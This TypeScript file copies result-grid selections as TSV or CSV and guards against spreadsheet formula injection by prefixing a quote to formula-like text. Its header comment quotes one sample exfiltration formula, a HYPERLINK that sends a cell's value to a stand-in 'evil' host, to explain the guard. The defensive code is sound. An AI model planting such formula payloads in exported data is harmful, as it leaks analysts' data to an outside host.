// Copying from the result grid: a cell, rows, columns or a rectangular selection, as TSV (what
// spreadsheets and text editors paste as a table) or as CSV (RFC 4180, as Export writes it).
//
// TSV: NULL is an empty field; a value holding a tab, a line break or a quote is quoted with its
// quotes doubled, as spreadsheets read it.
// CSV: fields holding `,` `"` CR or LF are quoted with quotes doubled; NULL is an empty field and
// empty text is `""`, so the two stay apart; records end with CRLF.
// Both: when more than one record is copied, each ends with its line break (see `records`).
//
// The formula guard (`formulaGuard`), on by default in both formats: pasting TSV or CSV into a
// spreadsheet interprets a cell that starts like a formula just as opening a CSV file does (CSV
// formula injection), so a hostile value in a table (`=HYPERLINK("http://evil/?"&A1,"x")`) would
// run in the analyst's spreadsheet. Copies get the rule Export and `warden query --format csv`
// apply (`looks_like_formula` in crates/results/src/export.rs): text, a column name included,
// starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, unless it is a
// negative number written as text (a DECIMAL's `-12.50`), which a spreadsheet reads as a number.
// Only text: numbers (`-5` too), booleans and NULL arrive typed and are never changed, as the
// backend never changes its Int, Float, Bool and Null values. A single cell copied alone is guarded too:
// pasted into a spreadsheet cell it is interpreted like any other. The grid's menu has "Copy
// values as-is" for pasting into a text editor or another SQL tool, and the grid says how many
// values a copy changed.

import type { CellValue } from "./api";

/** At most this many rows are copied at once (the backend pages at most 5,000 rows). */
export const MAX_COPY_ROWS = 5_000;

export type CopyFormat = "tsv" | "csv";

/** How a spreadsheet starts a formula: the leading characters Export guards. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A negative number written as text, as engines write DECIMAL values (`-12.50`): a number to a
 * spreadsheet, not a formula, so it is left alone (`is_negative_number` in export.rs).
 */
const NEGATIVE_NUMBER = /^-\d+(\.\d+)?$/;

/**
 * The formula guard: text that starts like a spreadsheet formula with a leading `'`; any other
 * value (a number, a boolean, NULL, other text) unchanged. The one place the UI holds the rule.
 */
export function formulaGuard<T extends CellValue | undefined>(value: T): T | string {
  return typeof value === "string" && FORMULA_START.test(value) && !NEGATIVE_NUMBER.test(value) ? `'${value}` : value;
}

/** Whether copied values go through `formulaGuard` (the default) or are copied as they are. */
export type CopyValues = "guarded" | "as-is";

function plain(value: CellValue): string {
  return typeof value === "boolean" ? (value ? "true" : "false") : String(value);
}

export function tsvField(value: CellValue | undefined): string {
  if (value === null || value === undefined) return "";
  const text = plain(value);
  return /[\t\n\r"]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Rows as TSV lines, with `header` first when given. */
export function toTsv(rows: CellValue[][], header?: string[]): string {
  const lines = rows.map((row) => row.map(tsvField).join("\t"));
  if (header) lines.unshift(header.map((name) => tsvField(name)).join("\t"));
  return records(lines, "\n");
}

// Several records each end with their terminator: a one-column record holding NULL or empty
// text is an empty line, which readers drop when it is the last one and ends without a line
// break. One lone value (a cell copied by itself) goes bare, to paste into a text field.
function records(lines: string[], end: string): string {
  return lines.length > 1 ? lines.map((line) => line + end).join("") : lines.join(end);
}

/** One RFC 4180 field: NULL empty, empty text `""`. */
export function csvField(value: CellValue | undefined): string {
  if (value === null || value === undefined) return "";
  const text = plain(value);
  if (text === "") return '""';
  return /[,"\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** Rows as CSV records each ending with CRLF, as Export writes them, with `header` first when given. */
export function toCsv(rows: CellValue[][], header?: string[]): string {
  const lines = rows.map((row) => row.map(csvField).join(","));
  if (header) lines.unshift(header.map((name) => csvField(name)).join(","));
  return records(lines, "\r\n");
}

/** A rectangle of the grid: rows and columns, both inclusive; a whole row spans every column. */
export interface Selection {
  firstRow: number;
  lastRow: number;
  firstColumn: number;
  lastColumn: number;
}

export interface Cell {
  /** -1: the column header, which stands for the whole column. */
  row: number;
  /** -1: the row number, which stands for the whole row. */
  column: number;
}

/**
 * The rectangle between two cells of a grid of `rows` x `columns`: a row number at either end
 * takes whole rows, a column header whole columns (the corner, both: everything).
 */
export function selectionBetween(anchor: Cell, focus: Cell, columns: number, rows: number): Selection {
  const wholeRows = anchor.column < 0 || focus.column < 0;
  const wholeColumns = anchor.row < 0 || focus.row < 0;
  return {
    firstRow: wholeColumns ? 0 : Math.min(anchor.row, focus.row),
    lastRow: wholeColumns ? rows - 1 : Math.max(anchor.row, focus.row),
    firstColumn: wholeRows ? 0 : Math.min(anchor.column, focus.column),
    lastColumn: wholeRows ? columns - 1 : Math.max(anchor.column, focus.column),
  };
}

export function selects(selection: Selection | null, row: number, column: number): boolean {
  return (
    selection !== null &&
    row >= selection.firstRow &&
    row <= selection.lastRow &&
    column >= selection.firstColumn &&
    column <= selection.lastColumn
  );
}

/** The selected part of `rows` (which start at the selection's first row). */
export function cut(rows: CellValue[][], selection: Selection): CellValue[][] {
  return rows.map((row) => row.slice(selection.firstColumn, selection.lastColumn + 1));
}

/** What a copy puts on the clipboard, and how many values and column names the guard changed. */
export interface Copied {
  text: string;
  guardedValues: number;
  guardedNames: number;
}

/**
 * The text of copied rows in `format`, `header` naming the columns; every value and name goes
 * through the formula guard unless `values` is "as-is".
 */
export function formatRows(format: CopyFormat, rows: CellValue[][], header?: string[], values: CopyValues = "guarded"): Copied {
  const guarded = { values: 0, names: 0 };
  const guard = (kind: keyof typeof guarded) => <T extends CellValue | undefined>(value: T): T | string => {
    if (values === "as-is") return value;
    const safe = formulaGuard(value);
    if (safe !== value) guarded[kind] += 1;
    return safe;
  };
  const safeRows = rows.map((row) => row.map(guard("values")));
  const safeHeader = header?.map(guard("names"));
  const text = format === "csv" ? toCsv(safeRows, safeHeader) : toTsv(safeRows, safeHeader);
  return { text, guardedValues: guarded.values, guardedNames: guarded.names };
}
